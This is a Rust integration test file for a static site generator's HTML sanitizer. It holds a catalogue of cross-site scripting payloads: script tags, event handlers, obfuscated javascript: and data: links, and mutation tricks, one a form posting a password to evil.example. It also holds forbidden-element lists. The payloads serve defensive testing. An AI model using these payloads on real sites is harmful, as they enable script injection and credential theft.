//! Hostile content never gets through: scripts and dangerous addresses in notice bodies,
//! markup in front matter values, and paths that try to leave the site.
//!
//! 1. Bodies under the default `raw_html = "sanitize"` (and a few under `escape`).
//! 2. Every string field a notice, a person's file and site.toml can hold, carrying markup,
//!    checked in every HTML, XML and JSON file of the output.
//! 3. Front matter values naming paths outside the site (slugs, sections, tags, translations,
//!    attachments, symlinks).

#[path = "integration/harness.rs"]
#[allow(dead_code)]
mod harness;

use std::collections::BTreeMap;
use std::path::{Component, Path, PathBuf};

use harness::TestSite;

// ---------------------------------------------------------------------------------------------
// A small HTML tokenizer: enough to see elements and attributes the way a browser would split
// them, so that a value that broke out of its attribute or its text shows up as an element or
// an attribute of its own.
// ---------------------------------------------------------------------------------------------

#[derive(Debug)]
struct Element {
    name: String,
    attrs: Vec<(String, String)>,
    /// The opening tag as written.
    tag: String,
    /// The content of a raw-text element (`script`, `style`, `textarea`, `title`).
    raw_text: Option<String>,
}

impl Element {
    fn attr(&self, name: &str) -> Option<&str> {
        self.attrs.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str())
    }
}

struct Html {
    elements: Vec<Element>,
    /// Decoded text nodes.
    texts: Vec<String>,
    /// The document with the contents of `<script>` elements left out.
    outside_scripts: String,
}

impl Html {
    /// Every decoded text node and attribute value, joined: what a reader or a crawler sees.
    fn corpus(&self) -> String {
        let mut out = self.texts.join("\u{1}");
        for e in &self.elements {
            for (_, v) in &e.attrs {
                out.push('\u{1}');
                out.push_str(v);
            }
            if let Some(t) = &e.raw_text
                && e.name != "script"
            {
                out.push('\u{1}');
                out.push_str(&decode(t));
            }
        }
        out
    }

    /// The JSON-LD blocks, as written.
    fn json_ld(&self) -> Vec<&str> {
        self.elements
            .iter()
            .filter(|e| e.name == "script" && e.attr("type") == Some("application/ld+json"))
            .map(|e| e.raw_text.as_deref().unwrap_or(""))
            .collect()
    }

    /// The decoded `content` of every `<meta>` whose `property` or `name` is `key`.
    fn meta(&self, key: &str) -> Vec<&str> {
        self.elements
            .iter()
            .filter(|e| e.name == "meta" && (e.attr("property") == Some(key) || e.attr("name") == Some(key)))
            .filter_map(|e| e.attr("content"))
            .collect()
    }
}

const RAW_TEXT: &[&str] =
    &["script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "plaintext"];

fn parse_html(html: &str) -> Html {
    let b = html.as_bytes();
    let lower = html.to_ascii_lowercase();
    let mut elements = Vec::new();
    let mut texts = Vec::new();
    let mut outside = String::with_capacity(html.len());
    let mut i = 0;
    let mut text_from = 0;
    while let Some(off) = html[i..].find('<') {
        let start = i + off;
        let rest = &html[start..];
        let end_of = |needle: &str, skip: usize| rest.find(needle).map_or(html.len(), |e| start + e + skip);
        if rest.starts_with("<!--") {
            texts.push(decode(&html[text_from..start]));
            i = html[start + 4..].find("-->").map_or(html.len(), |e| start + 4 + e + 3);
            text_from = i;
            continue;
        }
        if rest.starts_with("</") || rest.starts_with("<!") || rest.starts_with("<?") {
            texts.push(decode(&html[text_from..start]));
            i = end_of(">", 1);
            text_from = i;
            continue;
        }
        if !rest[1..].starts_with(|c: char| c.is_ascii_alphabetic()) {
            // A `<` that starts no tag is text.
            i = start + 1;
            continue;
        }
        texts.push(decode(&html[text_from..start]));
        let mut j = start + 1;
        while j < b.len() && !(b[j].is_ascii_whitespace() || b[j] == b'/' || b[j] == b'>') {
            j += 1;
        }
        let name = html[start + 1..j].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while j < b.len() && (b[j].is_ascii_whitespace() || b[j] == b'/') {
                j += 1;
            }
            if j >= b.len() {
                break;
            }
            if b[j] == b'>' {
                j += 1;
                break;
            }
            let a = j;
            // A name may start with `=` (an error browsers recover from), then runs to a
            // space, `/`, `>` or `=`.
            j += 1;
            while j < b.len() && !(b[j].is_ascii_whitespace() || b[j] == b'/' || b[j] == b'>' || b[j] == b'=') {
                j += 1;
            }
            let attr_name = html[a..j].to_ascii_lowercase();
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            let mut value = String::new();
            if j < b.len() && b[j] == b'=' {
                j += 1;
                while j < b.len() && b[j].is_ascii_whitespace() {
                    j += 1;
                }
                if j < b.len() && (b[j] == b'"' || b[j] == b'\'') {
                    let q = b[j];
                    j += 1;
                    let v = j;
                    while j < b.len() && b[j] != q {
                        j += 1;
                    }
                    value = decode(&html[v..j]);
                    j = (j + 1).min(b.len());
                } else {
                    let v = j;
                    while j < b.len() && !(b[j].is_ascii_whitespace() || b[j] == b'>') {
                        j += 1;
                    }
                    value = decode(&html[v..j]);
                }
            }
            attrs.push((attr_name, value));
        }
        let tag = html[start..j].to_owned();
        outside.push_str(&html[text_from..j]);
        let mut raw_text = None;
        i = j;
        if RAW_TEXT.contains(&name.as_str()) {
            let close = format!("</{name}");
            let content_end = lower[j..].find(&close).map_or(html.len(), |e| j + e);
            raw_text = Some(html[j..content_end].to_owned());
            if name != "script" {
                outside.push_str(&html[j..content_end]);
            }
            i = content_end;
        }
        text_from = i;
        elements.push(Element { name, attrs, tag, raw_text });
    }
    texts.push(decode(&html[text_from..]));
    outside.push_str(&html[text_from..]);
    Html { elements, texts, outside_scripts: outside }
}

/// Decodes the character references a page may use.
fn decode(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(p) = rest.find('&') {
        out.push_str(&rest[..p]);
        rest = &rest[p..];
        let decoded = rest.find(';').filter(|&e| e <= 12).and_then(|e| {
            let name = &rest[1..e];
            let c = match name {
                "amp" => Some('&'),
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "nbsp" => Some('\u{a0}'),
                "colon" => Some(':'),
                "Tab" => Some('\t'),
                "NewLine" => Some('\n'),
                _ if name.starts_with("#x") || name.starts_with("#X") => {
                    u32::from_str_radix(&name[2..], 16).ok().and_then(char::from_u32)
                }
                _ if name.starts_with('#') => name[1..].parse().ok().and_then(char::from_u32),
                _ => None,
            };
            c.map(|c| (c, e))
        });
        match decoded {
            Some((c, e)) => {
                out.push(c);
                rest = &rest[e + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Whether a browser would open `url` as a relative address or with a harmless scheme.
fn url_is_safe(url: &str) -> bool {
    // Browsers drop leading and trailing C0 controls and spaces, and tabs and newlines anywhere.
    let cleaned: String =
        url.trim_matches(|c: char| c <= ' ').chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    match cleaned.find(':') {
        Some(colon) if !cleaned[..colon].contains(['/', '?', '#']) => {
            ["http", "https", "mailto", "tel"].contains(&cleaned[..colon].to_ascii_lowercase().as_str())
        }
        _ => true,
    }
}

/// Elements that must never be in a page of the site.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "param",
    "style",
    "svg",
    "math",
    "form",
    "base",
    "textarea",
    "button",
    "select",
    "isindex",
    "marquee",
    "video",
    "audio",
    "source",
    "xmp",
    "plaintext",
    "noembed",
];

/// Attributes that hold an address.
const URL_ATTRIBUTES: &[&str] =
    &["href", "src", "action", "formaction", "xlink:href", "cite", "poster", "background", "data", "ping", "lowsrc"];

/// Everything wrong with the markup of `html`: an element or attribute that can run code or
/// load a foreign page, or a name that only exists because a value broke out of its place.
fn markup_problems(html: &Html) -> Vec<String> {
    let mut problems = Vec::new();
    for e in &html.elements {
        let tag = &e.tag;
        if !e.name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-') {
            problems.push(format!("an element with a broken name: {tag}"));
        }
        if FORBIDDEN_ELEMENTS.contains(&e.name.as_str()) {
            problems.push(format!("a <{}> element: {tag}", e.name));
        }
        match e.name.as_str() {
            "script" => {
                let text = e.raw_text.as_deref().unwrap_or("");
                let theme_search = e.attr("src").is_some_and(|s| s.ends_with("/search-index/search.js"))
                    && e.attrs.iter().all(|(name, _)| name == "src" || name == "defer")
                    && text.trim().is_empty();
                if e.attr("type") == Some("application/ld+json") {
                    if let Err(err) = serde_json::from_str::<serde_json::Value>(text) {
                        problems.push(format!("JSON-LD that does not parse ({err}): {text}"));
                    }
                    if text.contains("<!--") || text.to_ascii_lowercase().contains("<script") {
                        problems.push(format!("JSON-LD with markup in it: {text}"));
                    }
                } else if !theme_search {
                    problems.push(format!("a <script> element: {tag}{text}"));
                }
            }
            "meta" if e.attr("http-equiv").is_some() => problems.push(format!("a <meta http-equiv>: {tag}")),
            "input" if !(e.attr("type") == Some("checkbox") && e.attr("disabled").is_some()) => {
                problems.push(format!("an <input>: {tag}"))
            }
            "link" if !matches!(e.attr("rel"), Some("stylesheet" | "icon" | "canonical" | "alternate")) => {
                problems.push(format!("a <link> of an unexpected kind: {tag}"))
            }
            _ => {}
        }
        for (name, value) in &e.attrs {
            let ok_name = name.starts_with(|c: char| c.is_ascii_lowercase())
                && name.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "-_:.".contains(c));
            if !ok_name {
                problems.push(format!("an attribute with a broken name `{name}` (a value broke out?): {tag}"));
            }
            if name.starts_with("on") {
                problems.push(format!("an event handler `{name}`: {tag}"));
            }
            if name == "style" {
                let align =
                    ["left", "right", "center"].iter().any(|a| value.replace(' ', "") == format!("text-align:{a}"));
                if !(matches!(e.name.as_str(), "td" | "th") && align) {
                    problems.push(format!("a style attribute: {tag}"));
                }
            }
            if matches!(name.as_str(), "srcset" | "srcdoc" | "http-equiv" | "formaction") {
                problems.push(format!("a `{name}` attribute: {tag}"));
            }
            if URL_ATTRIBUTES.contains(&name.as_str()) && !url_is_safe(value) {
                problems.push(format!("a dangerous address in `{name}` ({value:?}): {tag}"));
            }
        }
    }
    problems
}

// ---------------------------------------------------------------------------------------------
// 1. Notice bodies
// ---------------------------------------------------------------------------------------------

/// One hostile body: what must be gone from the notice's body (case-insensitive) and what
/// ordinary markup or text must stay.
struct Vector {
    name: &'static str,
    markdown: &'static str,
    gone: &'static [&'static str],
    kept: &'static [&'static str],
}

const fn v(
    name: &'static str,
    markdown: &'static str,
    gone: &'static [&'static str],
    kept: &'static [&'static str],
) -> Vector {
    Vector { name, markdown, gone, kept }
}

/// Text written after each vector, which must survive it.
const SENTINEL: &str = "End of the vector.";

const VECTORS: &[Vector] = &[
    v("script element", "<script>alert('v')</script>", &["<script", "alert"], &[]),
    v(
        "script element in capitals with src",
        "<SCRIPT SRC=\"https://evil.example/x.js\"></SCRIPT>",
        &["<script", "evil.example"],
        &[],
    ),
    v(
        "inline script inside a paragraph",
        "Before <script>alert('v')</script> after.",
        &["<script", "alert"],
        &["Before", "after."],
    ),
    v(
        "iframe",
        "<iframe src=\"https://evil.example/frame\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
        &["<iframe", "evil.example", "srcdoc", "<script"],
        &[],
    ),
    v(
        "object",
        concat!(
            "<object data=\"https://evil.example/x.swf\" type=\"application/x-shockwave-flash\">",
            "<param name=\"movie\" value=\"x.swf\">Fallback</object>"
        ),
        &["<object", "<param", "evil.example", "x.swf"],
        &[],
    ),
    v(
        "embed",
        "<embed src=\"https://evil.example/x.swf\" type=\"application/x-shockwave-flash\">",
        &["<embed", "evil.example"],
        &[],
    ),
    v("onclick on a paragraph", "<p onclick=\"alert('v')\">Click me</p>", &["onclick", "alert"], &["<p>Click me</p>"]),
    v(
        "onerror on an image",
        "<img src=\"x.png\" alt=\"X\" onerror=\"alert('v')\">",
        &["onerror", "alert"],
        &["<img src=\"x.png\""],
    ),
    v("onerror on an image, unquoted", "<img src=x onerror=alert(1)>", &["onerror", "alert"], &["<img src=\"x\""]),
    v(
        "onload on svg",
        "<svg onload=\"alert('v')\"><circle r=\"1\"></circle></svg>",
        &["<svg", "onload", "alert", "<circle"],
        &[],
    ),
    v("onload on body", "<body onload=\"alert('v')\">Body text</body>", &["<body", "onload", "alert"], &[]),
    v("svg with a script", "<svg><script>alert('v')</script></svg>", &["<svg", "<script", "alert"], &[]),
    v(
        "svg with a javascript: link",
        "<svg><a xlink:href=\"javascript:alert('v')\"><text>T</text></a></svg>",
        &["<svg", "javascript", "xlink"],
        &[],
    ),
    v(
        "math with a javascript: link",
        "<math><mi xlink:href=\"javascript:alert('v')\">M</mi></math>",
        &["<math", "javascript", "xlink"],
        &[],
    ),
    v(
        "onmouseover next to a safe href",
        "<a href=\"https://ok.example/\" onmouseover=\"alert('v')\">OK</a>",
        &["onmouseover", "alert"],
        &["href=\"https://ok.example/\""],
    ),
    v(
        "ontoggle on details",
        "<details open ontoggle=\"alert('v')\"><summary>S</summary>D</details>",
        &["ontoggle", "alert"],
        &[],
    ),
    v(
        "onfocus on an autofocused input",
        "<input autofocus onfocus=\"alert('v')\">",
        &["<input", "onfocus", "alert"],
        &[],
    ),
    v(
        "onerror on video and audio sources",
        "<video><source onerror=\"alert('v')\"></video><audio src=x onerror=alert(1)></audio>",
        &["<video", "<audio", "<source", "onerror", "alert"],
        &[],
    ),
    v(
        "markdown link to javascript:",
        "[md link](javascript:alert('v'))",
        &["javascript", "alert", "href"],
        &["md link"],
    ),
    v(
        "markdown link to JaVaScRiPt: in mixed case",
        "[md link](JaVaScRiPt:alert('v'))",
        &["javascript", "alert", "href"],
        &["md link"],
    ),
    v(
        "markdown link to jav&#x61;script:",
        "[md link](jav&#x61;script:alert('v'))",
        &["script:", "alert", "href"],
        &["md link"],
    ),
    v(
        "markdown link to javascript&#58;",
        "[md link](javascript&#58;alert('v'))",
        &["javascript", "alert", "href"],
        &["md link"],
    ),
    v(
        "markdown link with a tab entity in the scheme",
        "[md link](java&#9;script:alert('v'))",
        &["script:", "alert", "href"],
        &["md link"],
    ),
    v(
        "markdown link with a newline entity in the scheme",
        "[md link](java&#10;script:alert('v'))",
        &["script:", "alert", "href"],
        &["md link"],
    ),
    v(
        "markdown link with a leading control character",
        "[md link](&#14;javascript:alert('v'))",
        &["javascript", "alert", "href"],
        &["md link"],
    ),
    v(
        "markdown link with leading spaces",
        "[md link](<  javascript:alert('v')>)",
        &["javascript", "alert", "href"],
        &["md link"],
    ),
    v("markdown autolink to javascript:", "<javascript:alert('v')>", &["href", "<a"], &[]),
    v(
        "markdown reference link to javascript:",
        "[md link][evil]\n\n[evil]: javascript:alert('v')",
        &["javascript", "alert", "href"],
        &["md link"],
    ),
    v(
        "markdown link to data:",
        "[md link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        &["data:", "href"],
        &["md link"],
    ),
    v("markdown link to vbscript:", "[md link](vbscript:msgbox('v'))", &["vbscript", "href"], &["md link"]),
    v(
        "markdown image from javascript:",
        "![md image](javascript:alert('v'))",
        &["javascript", "alert", "<img"],
        &["md image"],
    ),
    v(
        "markdown image from data:",
        "![md image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)",
        &["data:", "<img"],
        &["md image"],
    ),
    v(
        "markdown image from DaTa: in mixed case",
        "![md image](DaTa:image/png;base64,AAAA)",
        &["data:", "<img"],
        &["md image"],
    ),
    v(
        "markdown image title breaking out",
        "![md image](x.png \"t\\\" onerror=\\\"alert('v')\")",
        &["onerror=\""],
        &["<img src=\"x.png\""],
    ),
    v(
        "markdown link title breaking out",
        "[md link](https://ok.example/ \"t\\\" onclick=\\\"alert('v')\")",
        &["onclick=\""],
        &["href=\"https://ok.example/\""],
    ),
    v(
        "raw <a href=javascript:>",
        "<a href=\"javascript:alert('v')\">raw link</a>",
        &["javascript", "alert", "href"],
        &["raw link"],
    ),
    v(
        "raw <a href> in mixed case",
        "<a href=\"JaVaScRiPt:alert('v')\">raw link</a>",
        &["javascript", "alert", "href"],
        &["raw link"],
    ),
    v(
        "raw <a href> with jav&#x61;script:",
        "<a href=\"jav&#x61;script:alert('v')\">raw link</a>",
        &["script:", "alert", "href"],
        &["raw link"],
    ),
    v(
        "raw <a href> in decimal entities",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('v')\">raw link</a>",
        &["alert", "href", "&#"],
        &["raw link"],
    ),
    v(
        "raw <a href> with &colon;",
        "<a href=\"javascript&colon;alert('v')\">raw link</a>",
        &["javascript", "alert", "href"],
        &["raw link"],
    ),
    v(
        "raw <a href> with leading spaces",
        "<a href=\"   javascript:alert('v')\">raw link</a>",
        &["javascript", "alert", "href"],
        &["raw link"],
    ),
    v(
        "raw <a href> with a leading tab",
        "<a href=\"\tjavascript:alert('v')\">raw link</a>",
        &["javascript", "alert", "href"],
        &["raw link"],
    ),
    v(
        "raw <a href> with a tab inside the scheme",
        "<a href=\"java\tscript:alert('v')\">raw link</a>",
        &["script:", "alert", "href"],
        &["raw link"],
    ),
    v(
        "raw <a href> with &#x09; and &#x0A; entities",
        "<a href=\"&#x09;java&#x0A;script:alert('v')\">raw link</a>",
        &["script:", "alert", "href"],
        &["raw link"],
    ),
    v(
        "raw <a href> with a leading control character",
        "<a href=\"&#14;javascript:alert('v')\">raw link</a>",
        &["javascript", "alert", "href"],
        &["raw link"],
    ),
    v(
        "raw <a href=data:>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">raw link</a>",
        &["data:", "href"],
        &["raw link"],
    ),
    v("raw <a href=vbscript:>", "<a href=\"vbscript:msgbox('v')\">raw link</a>", &["vbscript", "href"], &["raw link"]),
    v(
        "raw <img src=javascript:>",
        "<img src=\"javascript:alert('v')\" alt=\"A\">",
        &["javascript", "alert", "src="],
        &[],
    ),
    v(
        "raw <img src> with a leading tab and mixed case",
        "<img src=\"\tJaVaScRiPt:alert('v')\" alt=\"A\">",
        &["javascript", "alert", "src="],
        &[],
    ),
    v(
        "raw <img src=data:>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=\" alt=\"A\">",
        &["data:", "src="],
        &[],
    ),
    v(
        "raw <img src=DaTa:> in mixed case",
        "<img src=\"DaTa:image/png;base64,AAAA\" alt=\"A\">",
        &["data:", "src="],
        &[],
    ),
    v(
        "raw <img srcset>",
        "<img src=\"x.png\" srcset=\"javascript:alert('v') 1x, data:image/png;base64,AA 2x\">",
        &["srcset", "javascript", "data:"],
        &["<img src=\"x.png\""],
    ),
    v(
        "style element with expression()",
        "<style>body { width: expression(alert('v')); }</style>",
        &["<style", "expression", "alert"],
        &[],
    ),
    v(
        "style attribute with expression()",
        "<p style=\"width: expression(alert('v'))\">Styled</p>",
        &["style=", "expression", "alert"],
        &["<p>Styled</p>"],
    ),
    v(
        "style attribute on a table cell",
        concat!(
            "<table><tr><td style=\"text-align: center; width: expression(alert('v')); ",
            "background: url(javascript:alert(2))\">Cell</td></tr></table>"
        ),
        &["expression", "javascript", "background", "alert"],
        &["style=\"text-align:center\"", "Cell"],
    ),
    v(
        "style attribute making an overlay",
        "<a href=\"https://ok.example/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Overlay</a>",
        &["style=", "position"],
        &["href=\"https://ok.example/\""],
    ),
    v(
        "form with action",
        concat!(
            "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"pw\" type=\"password\">",
            "<button formaction=\"javascript:alert('v')\">Go</button></form>"
        ),
        &["<form", "action", "<input", "<button", "evil.example", "javascript"],
        &[],
    ),
    v(
        "meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        &["<meta", "http-equiv", "evil.example"],
        &[],
    ),
    v("base href", "<base href=\"https://evil.example/\">", &["<base", "evil.example"], &[]),
    v(
        "link to a stylesheet",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        &["<link", "evil.example"],
        &[],
    ),
    v(
        "frameset and applet",
        concat!(
            "<frameset onload=\"alert('v')\"><frame src=\"javascript:alert(1)\"></frameset>",
            "<applet code=\"X.class\"></applet>"
        ),
        &["<frame", "<applet", "onload", "javascript"],
        &[],
    ),
    v(
        "mutation through noscript",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('v')>\"></noscript>",
        &["onerror=a", "<noscript"],
        &[],
    ),
    v(
        "mutation through svg and style",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert('v')>\">",
        &["onerror=a", "<svg", "<style"],
        &[],
    ),
    v("comment trick", "<!--><img src=x onerror=alert('v')>-->", &["onerror", "alert"], &[]),
    v("html comment kept out", "<!-- <script>alert('v')</script> -->", &["<!--", "<script"], &[]),
    v(
        "image inside a table cell",
        "| A |\n|---|\n| <img src=\"x\" onerror=\"alert('v')\"> |",
        &["onerror", "alert"],
        &["<table>"],
    ),
    v(
        "script inside a list item",
        "- Item <script>alert('v')</script>\n- [ ] Task <img src=\"x\" onerror=\"alert(1)\">",
        &["<script", "onerror", "alert"],
        &["<li>"],
    ),
    v(
        "script inside a footnote",
        "Text.[^n]\n\n[^n]: Note <script>alert('v')</script><img src=\"x\" onerror=\"alert(1)\">",
        &["<script", "onerror", "alert"],
        &["footnote-definition"],
    ),
    v(
        "footnote label breaking out",
        "Text.[^x\" onclick=\"alert('v')]\n\n[^x\" onclick=\"alert('v')]: The note.",
        &["onclick=\""],
        &["The note."],
    ),
    v(
        "image inside a heading",
        "## Heading <img src=\"x\" onerror=\"alert('v')\">",
        &["onerror", "alert"],
        &["<h2 id="],
    ),
    v(
        "image inside a link's text",
        "[<img src=\"x\" onerror=\"alert('v')\">](https://ok.example/)",
        &["onerror", "alert"],
        &["href=\"https://ok.example/\""],
    ),
    v(
        "markup inside an image's alt text",
        // With words around it: an image without alt text stops the build.
        "![A <img src=\"x\" onerror=\"alert('v')\"> B](x.png)",
        &["onerror=\""],
        &["<img src=\"x.png\""],
    ),
    v(
        "code fence whose language breaks out",
        "```\"><script>alert('v')</script>\nlet x = 1;\n```",
        &["<script", "\"><"],
        &["let x = 1;"],
    ),
    v(
        "code fence whose language adds a handler",
        "```x\"onmouseover=\"alert('v')\nlet x = 1;\n```",
        &["\"onmouseover=\""],
        &["let x = 1;"],
    ),
    v(
        "script in a code block stays text",
        "```html\n<script>alert('v')</script>\n```",
        &["<script"],
        &["&lt;", "<pre class=\"hl\">"],
    ),
];

/// The body of a notice page: from the `notice-body` div to the end of the article.
fn notice_body(html: &str) -> &str {
    let start = html.find("<div class=\"notice-body\"").expect("no notice-body");
    let end = html.rfind("</article>").expect("no </article>");
    &html[start..end]
}

#[test]
fn hostile_markup_is_removed_from_notice_bodies() {
    let mut site = TestSite::new();
    for (i, vector) in VECTORS.iter().enumerate() {
        site = site.notice(
            &format!("news/v{i:02}.md"),
            &format!("title = \"Vector {i:02}\"\ndate = 2021-01-25\nslug = \"v{i:02}\""),
            &format!("{}\n\n{SENTINEL}\n", vector.markdown),
        );
    }
    let built = site.build().ok();
    let mut failures = Vec::new();
    for (i, vector) in VECTORS.iter().enumerate() {
        let page = built.page(&format!("/news/v{i:02}/"));
        let body = notice_body(&page.html);
        let lower = body.to_lowercase();
        let mut problems = Vec::new();
        for gone in vector.gone {
            if lower.contains(&gone.to_lowercase()) {
                problems.push(format!("{gone:?} is still there"));
            }
        }
        for kept in vector.kept.iter().chain([&SENTINEL]) {
            if !body.contains(kept) {
                problems.push(format!("{kept:?} was lost"));
            }
        }
        problems.extend(markup_problems(&parse_html(body)).into_iter().map(|p| format!("body: {p}")));
        // The rest of the page too: the summary, the table of contents, the JSON-LD.
        problems.extend(markup_problems(&parse_html(&page.html)).into_iter().map(|p| format!("page: {p}")));
        if !problems.is_empty() {
            failures.push(format!("vector `{}`:\n  - {}\n  body: {body}", vector.name, problems.join("\n  - ")));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} vectors got through:\n\n{}",
        failures.len(),
        VECTORS.len(),
        failures.join("\n\n")
    );
}

/// Ordinary markup survives the sanitizer, with its attributes.
#[test]
fn ordinary_markup_survives_sanitizing() {
    let body = r#"Text with <abbr title="Regional Veterans Affairs Bureau">RVAB</abbr>, H<sub>2</sub>O and
1<sup>st</sup>.

| Item | Date |
|:-----|-----:|
| Pensions | 24 March |

<table><tr><td style="text-align: right">Raw cell</td></tr></table>

## Who is affected

Everyone.[^1]

[^1]: The note.

```rust
fn main() { let x = 1; }
```

<a href="https://ok.example/" title="A title">A link</a> and [a Markdown link](https://ok.example/b "B title") and
<img src="/images/x.png" alt="An image" width="10" height="20">.

<div class="note" id="n1" lang="zh-Hans" dir="ltr"><u>Underlined</u> <mark>marked</mark> <br> end</div>

[mail](mailto:press@example.gov) [phone](tel:+86991123) [relative](../other/)
"#;
    let built = TestSite::new().notice("news/a.md", "title = \"Ordinary\"\ndate = 2021-01-25", body).build().ok();
    let page = built.page("/news/ordinary/");
    let body = notice_body(&page.html);
    for (what, needle) in [
        ("<abbr title>", "<abbr title=\"Regional Veterans Affairs Bureau\">RVAB</abbr>"),
        ("<sub>", "H<sub>2</sub>O"),
        ("<sup>", "1<sup>st</sup>"),
        ("Markdown table", "<table><thead><tr><th style=\"text-align:left\">Item</th>"),
        ("Markdown table cell alignment", "<td style=\"text-align:right\">24 March</td>"),
        ("raw table cell alignment", "<td style=\"text-align:right\">Raw cell</td>"),
        ("heading id", "<h2 id=\"who-is-affected\">Who is affected</h2>"),
        ("footnote reference", "<sup class=\"footnote-reference\"><a href=\"#fn-1\">1</a></sup>"),
        ("footnote definition", "<div class=\"footnote-definition\" id=\"fn-1\">"),
        ("highlighted code block", "<pre class=\"hl\"><code class=\"language-rust\">"),
        ("highlighting spans", "<span class=\"hl-storage hl-type hl-function hl-rust\">fn</span>"),
        ("raw link with title", "<a href=\"https://ok.example/\" title=\"A title\">A link</a>"),
        (
            "Markdown link with title",
            "<a href=\"https://ok.example/b\" title=\"B title\" rel=\"noopener\">a Markdown link</a>",
        ),
        ("image", "<img src=\"/images/x.png\" alt=\"An image\" width=\"10\" height=\"20\">"),
        ("div with class, id, lang and dir", "<div class=\"note\" id=\"n1\" lang=\"zh-Hans\" dir=\"ltr\">"),
        ("<u>", "<u>Underlined</u>"),
        ("<mark>", "<mark>marked</mark>"),
        ("mailto: link", "<a href=\"mailto:press@example.gov\">mail</a>"),
        ("tel: link", "<a href=\"tel:+86991123\">phone</a>"),
        ("relative link", "<a href=\"../other/\">relative</a>"),
    ] {
        assert!(body.contains(needle), "{what} should survive sanitizing ({needle:?} missing):\n{body}");
    }
    let problems = markup_problems(&parse_html(body));
    assert!(problems.is_empty(), "ordinary markup flagged: {problems:#?}");
}

/// The text of the page, the table of contents and the summary are plain text: markup written
/// as entities in headings and the first paragraph stays text there.
#[test]
fn markup_in_headings_and_first_paragraph_stays_text() {
    // Smart punctuation would turn the quotes into curly ones, so the markup uses none.
    let body = "&lt;script&gt;alert(7)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt; onmouseover=alert(3)\n\n\
                ## One &lt;script&gt;alert(8)&lt;/script&gt;\n\n## Two &lt;img src=x onerror=alert(2)&gt;\n\n\
                ## Three &lt;svg onload=alert(9)&gt;\n\nText.\n";
    let built = TestSite::new().notice("news/a.md", "title = \"Headings\"\ndate = 2021-01-25", body).build().ok();
    for path in ["/news/headings/", "/", "/news/"] {
        let page = built.page(path);
        let html = parse_html(&page.html);
        let problems = markup_problems(&html);
        assert!(problems.is_empty(), "{path}: {problems:#?}\n{}", page.html);
        for raw in ["<script>alert(", "<img src=x onerror", "<svg onload"] {
            assert!(!html.outside_scripts.contains(raw), "{path} holds {raw:?} as markup:\n{}", page.html);
        }
    }
    let page = built.page("/news/headings/");
    let html = parse_html(&page.html);
    // The summary reaches the description intact, as text.
    let description = html.meta("description");
    assert!(
        description.iter().any(|d| d.starts_with("<script>alert(7)</script> <img src=x onerror=alert(1)>")),
        "description: {description:?}"
    );
    // The table of contents shows the headings as text.
    for heading in ["One <script>alert(8)</script>", "Two <img src=x onerror=alert(2)>", "Three <svg onload=alert(9)>"]
    {
        assert!(
            html.texts.iter().filter(|t| *t == heading).count() >= 2,
            "{heading:?} not in the text and the contents"
        );
    }
}

/// `raw_html = "escape"` shows markup as text; dangerous Markdown links still go.
#[test]
fn escape_mode_shows_markup_as_text() {
    let body = "<script>alert('escape')</script>\n\n<img src=x onerror=\"alert(2)\">\n\n\
                Inline <iframe src=\"https://evil.example/\"></iframe> frame.\n\n\
                <a href=\"javascript:alert(3)\">raw link</a>\n\n[md link](javascript:alert(4))\n";
    let built = TestSite::new()
        .config("[markdown]\nraw_html = \"escape\"\n")
        .notice("news/a.md", "title = \"Escaped\"\ndate = 2021-01-25", body)
        .build()
        .ok();
    let page = built.page("/news/escaped/");
    let body = notice_body(&page.html);
    for (what, shown) in [
        ("<script> shown as text", "&lt;script&gt;alert('escape')&lt;/script&gt;"),
        ("<img onerror> shown as text", "&lt;img src=x onerror=\"alert(2)\"&gt;"),
        ("inline <iframe> shown as text", "&lt;iframe src=\"https://evil.example/\"&gt;&lt;/iframe&gt;"),
        ("raw <a href=javascript:> shown as text", "&lt;a href=\"javascript:alert(3)\"&gt;raw link&lt;/a&gt;"),
        ("the text of a refused Markdown link", "md link"),
    ] {
        assert!(body.contains(shown), "escape mode: {what} ({shown:?}) missing:\n{body}");
    }
    for (what, gone) in [
        ("a <script> element", "<script"),
        ("an <img> element", "<img"),
        ("an <iframe> element", "<iframe"),
        ("a javascript: link", "<a href=\"javascript"),
        ("any link at all", "<a "),
    ] {
        assert!(!body.contains(gone), "escape mode: {what} ({gone:?}) got through:\n{body}");
    }
    let problems = markup_problems(&parse_html(body));
    assert!(problems.is_empty(), "escape mode: the body's markup is broken: {problems:#?}\n{body}");
}

/// The private-use characters Gazette puts in place of task-list checkboxes while the
/// sanitizer runs (U+F8F0, U+F8F1) are swapped for `<input>` markup afterwards, wherever they
